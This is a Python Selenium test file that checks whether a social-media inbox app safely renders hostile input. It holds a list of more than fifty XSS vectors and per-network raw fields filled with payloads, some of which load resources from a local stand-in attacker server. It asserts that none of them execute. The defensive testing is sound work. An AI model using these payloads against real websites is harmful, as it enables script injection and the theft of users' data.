"""Hostile input in the real app: over a hundred XSS payloads posted through the simulator reach
the inbox, the detail pane, the author panel, search results and desktop notifications, and none
runs — no dialog, no navigation, no request to the attacker's host, no script marker set. Then
every network (Mastodon, Bluesky, Facebook, Instagram, Google reviews, email) sends a post with
every field it controls set raw to a payload: content, names, handles, links, avatars, link
cards, subjects and attachment names."""
import contextlib
import http.server
import threading

from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from conftest import sweep_inbox, wait_until
from test_app import by_testid, sim_call

# {A} is the attacker's address; {N} is the payload's number (scripts set window.__pwned = N).
VECTORS = [
    '<script>window.__pwned={N}</script>',
    '<script src="{A}/s{N}.js"></script>',
    '<img src=x onerror="window.__pwned={N}">',
    '<img src="{A}/i{N}.png">',
    '<svg onload="window.__pwned={N}">',
    '<svg><script>window.__pwned={N}</script></svg>',
    '<svg><a xlink:href="javascript:window.__pwned={N}"><text>x</text></a></svg>',
    '<svg><image href="{A}/svg{N}.png"/></svg>',
    '<body onload="window.__pwned={N}">',
    '<iframe src="javascript:parent.__pwned={N}"></iframe>',
    '<iframe src="{A}/f{N}"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned={N}</script>"></iframe>',
    '<a href="javascript:window.__pwned={N}">click</a>',
    '<a href="data:text/html,<script>window.__pwned={N}</script>">data</a>',
    '<a href="{A}/a{N}">attacker link</a>',
    '<form action="{A}/form{N}"><button>go</button></form>',
    '<input autofocus onfocus="window.__pwned={N}">',
    '<details open ontoggle="window.__pwned={N}">',
    '<video><source onerror="window.__pwned={N}"></video>',
    '<audio src=x onerror="window.__pwned={N}">',
    '<object data="{A}/o{N}"></object>',
    '<embed src="{A}/e{N}">',
    '<link rel=stylesheet href="{A}/c{N}.css">',
    '<style>@import "{A}/imp{N}.css";</style>',
    '<div style="background:url({A}/bg{N}.png)">bg</div>',
    '<div style="width:expression(window.__pwned={N})">ie</div>',
    '<meta http-equiv="refresh" content="0;url={A}/meta{N}">',
    '<base href="{A}/">',
    '<marquee onstart="window.__pwned={N}">m</marquee>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned={N}">',
    '"><img src=x onerror=window.__pwned={N}>',
    "'><script>window.__pwned={N}</script>",
    '</textarea><script>window.__pwned={N}</script>',
    '</title><script>window.__pwned={N}</script>',
    '<scr<script>ipt>window.__pwned={N}</scr</script>ipt>',
    '<SCRIPT>window.__pwned={N}</SCRIPT>',
    '<img src=x oNeRrOr=window.__pwned={N}>',
    '<img src=x onerror=&#119;indow.__pwned={N}>',
    '<img src="jav&#x09;ascript:window.__pwned={N}">',
    'javascript:window.__pwned={N}',
    '[click me](javascript:window.__pwned={N})',
    '![x]({A}/md{N}.png)',
    '<x onclick=window.__pwned={N}>click</x>',
    '\u202e<img src=x onerror=window.__pwned={N}>',
    '\uff1cscript\uff1ewindow.__pwned={N}\uff1c/script\uff1e',
    '{{{{constructor.constructor("window.__pwned={N}")()}}}}',
    '${{window.__pwned={N}}}',
    '<template><img src=x onerror=window.__pwned={N}></template>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned={N}>">',
    '<isindex action="javascript:window.__pwned={N}" type=image>',
    '<table background="{A}/tb{N}.png"><td>t</td></table>',
    '<img srcset="{A}/ss{N}.png 1x">',
    '<picture><source srcset="{A}/p{N}.png"><img></picture>',
    '<div onmouseover="window.__pwned={N}">hover</div>',
    '<button formaction="javascript:window.__pwned={N}">b</button>',
]


class Recorder(http.server.BaseHTTPRequestHandler):
    hits = []

    def do_GET(self):
        Recorder.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def recording_server():
    """A `Recorder` on a port the kernel picks (held from the start): yields its address."""
    server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Recorder.hits.clear()
    try:
        yield f'http://127.0.0.1:{server.server_address[1]}'
    finally:
        server.shutdown()


def payloads(attacker):
    out = []
    for i, v in enumerate(VECTORS):
        for j, frame in enumerate(['{p}', 'Brightside Coffee refund now!! {p}']):
            n = i * 2 + j + 1
            out.append(frame.format(p=v.replace('{A}', attacker).replace('{N}', str(n))))
    return out


def no_harm(app, where):
    try:
        app.switch_to.alert
        raise AssertionError(f'a dialog opened ({where})')
    except NoAlertPresentException:
        pass
    assert app.execute_script('return window.__pwned === undefined'), f'a payload ran ({where})'
    assert app.execute_script('return location.href') == app.start_url, f'the page navigated ({where})'
    assert not Recorder.hits, f'requests reached the attacker ({where}): {Recorder.hits}'
    assert not app.find_elements(By.CSS_SELECTOR, 'main script, main iframe, main object, main embed, main svg image, main img[src^="http"]')


IN_VIEW = '''
const r = arguments[0].getBoundingClientRect();
const v = document.querySelector('[data-testid="inbox-scroll"]').getBoundingClientRect();
return r.top >= v.top && r.bottom <= v.bottom;
'''


def test_a_hundred_hostile_posts_render_as_text_everywhere_and_nothing_runs(app, fakebus):
    with recording_server() as attacker:
        wait_until(lambda: by_testid(app, 'mention'), 'the inbox')
        app.start_url = app.execute_script('return location.href')
        sent = payloads(attacker)
        assert len(sent) >= 100
        for i, p in enumerate(sent):
            net = 'bluesky' if i % 2 else 'mastodon'
            text = f'Brightside hostile{i} {p}' + (' #brightsidecoffee' if net == 'mastodon' else '')
            # Handles carry payloads too: they reach the author panel and notification titles.
            handle = f'x{i}<img src={attacker}/h{i}.png>' + ('.bsky.social' if net == 'bluesky' else '')
            sim_call(app, 'POST', '/_sim/post', {'net': net, 'handle': handle, 'followers': 90000, 'text': text})

        # Search finds them; each row shows the payload as text.
        box = by_testid(app, 'search')[0]
        box.send_keys('hostile0')
        # The handle's payload shows as text in the row (the author is x0<img …>).
        wait_until(lambda: any(f'x0<img src={attacker}' in r.text for r in by_testid(app, 'mention')), 'search results')
        no_harm(app, 'search results')
        box.send_keys(Keys.CONTROL, 'a')
        box.send_keys('hostile')
        wait_until(lambda: any('<img src=' in r.text for r in by_testid(app, 'mention')), 'the hostile posts in the inbox')
        no_harm(app, 'inbox')
        # Look through the whole list (drawn a screen at a time) and open a spread of them: the
        # detail pane, the thread and the author panel render each.
        seen = set()
        want_open = [False]

        def look(row):
            rid = row.get_attribute('data-id')
            if rid in seen or '<img src=' not in row.text:
                return None
            seen.add(rid)
            # The list draws a few rows beyond the edges of its view; a row there cannot take a
            # click, so the spread opens the next one that is fully in view.
            want_open[0] = want_open[0] or len(seen) % 4 == 1
            if want_open[0] and app.execute_script(IN_VIEW, row):
                want_open[0] = False
                row.click()
                detail = wait_until(lambda: by_testid(app, 'detail-text') and by_testid(app, 'detail-text')[0].text,
                                    'the detail text')
                assert 'hostile' in detail
                wait_until(lambda: by_testid(app, 'author-panel'), 'the author panel')
                no_harm(app, 'detail pane and author panel')
            return None
        sweep_inbox(app, look)
        assert len(seen) >= 100, f'every hostile post is in the list ({len(seen)})'
        no_harm(app, 'the whole list')
        shown = by_testid(app, 'detail-text')[0].text
        assert '<' in shown or 'javascript:' in shown or 'Brightside' in shown, 'payload shown as its own text'

        # Notifications carry the payloads escaped for the server's markup.
        calls = wait_until(lambda: [c for c in fakebus.notifications.calls if 'hostile' in c['body']] or None,
                           'notifications of the hostile posts')
        for c in calls:
            assert '<' not in c['body'] and '>' not in c['body'], f'markup escaped in the body: {c["body"]!r}'
        no_harm(app, 'after notifications')


def field_posts(attacker):
    """One post per network with every field a server controls set to a payload, raw (not
    escaped by the simulator): text and HTML content, display names, handles, links, avatars,
    link cards, review text."""
    def p(n):
        return f'<img src="{attacker}/f{n}.png" onerror="window.__pwned={n}"><script>window.__pwned={n}</script>'
    js = 'javascript:window.__pwned=999'
    return {
        'mastodon': {'net': 'mastodon', 'handle': 'fieldm', 'text': 'Brightside fieldtestmastodon #brightsidecoffee', 'raw': {
            'content': f'<p>Brightside fieldtestmastodon {p(901)} <a href="{js}">x</a> #brightsidecoffee</p>',
            'url': js, 'uri': js,
            'account': {'display_name': p(902), 'avatar': f'{attacker}/av.png', 'url': js, 'note': p(903)},
            'card': {'url': js, 'title': p(904), 'description': p(905), 'image': f'{attacker}/card.png'}}},
        'bluesky': {'net': 'bluesky', 'handle': 'fieldb.bsky.social', 'text': 'Brightside fieldtestbluesky', 'raw': {
            'record': {'text': f'Brightside fieldtestbluesky {p(911)}',
                       'embed': {'$type': 'app.bsky.embed.external', 'external': {
                           'uri': js, 'title': p(912), 'description': p(913), 'thumb': f'{attacker}/thumb.png'}}},
            'profile': {'displayName': p(914), 'avatar': f'{attacker}/bav.png'}}},
        'facebook': {'net': 'facebook', 'handle': p(921), 'text': f'Brightside fieldtestfacebook {p(922)}', 'raw': {
            'permalink_url': js, 'from': {'id': '5999', 'name': p(923)}}},
        'instagram': {'net': 'instagram', 'handle': 'fieldi', 'text': 'x', 'raw': {
            'text': f'Brightside fieldtestinstagram {p(931)}', 'username': p(932), 'from': {'id': '1799', 'username': p(933)}}},
        'google_reviews': {'net': 'google_reviews', 'handle': 'fieldg', 'rating': 1, 'text': 'x', 'raw': {
            'comment': f'Brightside fieldtestgoogle {p(941)}',
            'reviewer': {'displayName': p(942), 'profilePhotoUrl': f'{attacker}/g.png', 'isAnonymous': False}}},
        # A whole message: the sender's name, the subject and an attachment's name are payloads;
        # the only body is HTML with scripts and remote images.
        'email': {'net': 'email', 'text': 'x', 'raw': {'eml': '\r\n'.join([
            f'From: "{p(951)}" <field@example.com>', 'To: hello@brightside.coffee',
            f'Subject: Brightside fieldtestemail {p(952)}', '<fieldtest-email@example.com>'.join(['Message-ID: ', '']),
            'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b"', '',
            '--b', 'Content-Type: text/html; charset=utf-8', '',
            f'<p>Brightside fieldtestemail refund now {p(953)} <a href="{js}">x</a></p>',
            '--b', f'Content-Type: text/plain; name="{p(954)}.txt"', f'Content-Disposition: attachment; filename="{p(954)}.txt"', '',
            'hello', '--b--', ''])}},
    }


def test_every_network_s_fields_carry_hostile_values_as_text(app, fakebus):
    with recording_server() as attacker:
        wait_until(lambda: by_testid(app, 'mention'), 'the inbox')
        app.start_url = app.execute_script('return location.href')
        posts = field_posts(attacker)
        for body in posts.values():
            sim_call(app, 'POST', '/_sim/post', body)
        box = by_testid(app, 'search')[0]
        for net in posts:
            marker = f'fieldtest{net.split("_")[0]}'
            box.send_keys(Keys.CONTROL, 'a')
            box.send_keys(marker)
            # textContent: WebKit's WebDriver leaves some of a row's visible text out of `.text`.
            row = wait_until(lambda: next((r for r in by_testid(app, 'mention') if marker in r.get_attribute('textContent')), None),
                             f'the {net} post in the inbox')
            no_harm(app, f'{net} row')
            row.click()
            wait_until(lambda: by_testid(app, 'detail-text') and marker in by_testid(app, 'detail-text')[0].get_attribute('textContent'),
                       f'the {net} detail')
            # The plain-text fields (names, handles, review and comment text) show the payload as
            # its own text; HTML content (Mastodon's) is sanitised, so its markup is gone.
            shown = by_testid(app, 'detail')[0].get_attribute('textContent')
            assert '<script>' in shown or '<img src=' in shown, f'{net}: payload shown as text: {shown!r}'
            wait_until(lambda: by_testid(app, 'author-panel'), f'the {net} author panel')
            no_harm(app, f'{net} detail and author panel')
            # A javascript: link is never opened: the original has no web link then.
            if by_testid(app, 'open-original'):
                by_testid(app, 'open-original')[0].click()
                no_harm(app, f'{net} open original')
        # The body is markup to the notification server, so it is escaped; the summary is plain
        # text by the specification, so a name shows as its own characters there.
        calls = wait_until(lambda: [c for c in fakebus.notifications.calls if 'fieldtest' in c['body']] or None,
                           'notifications of the urgent ones')
        for c in calls:
            assert '<' not in c['body'] and '>' not in c['body'], f'markup escaped in the body: {c["body"]!r}'
        no_harm(app, 'after every network')
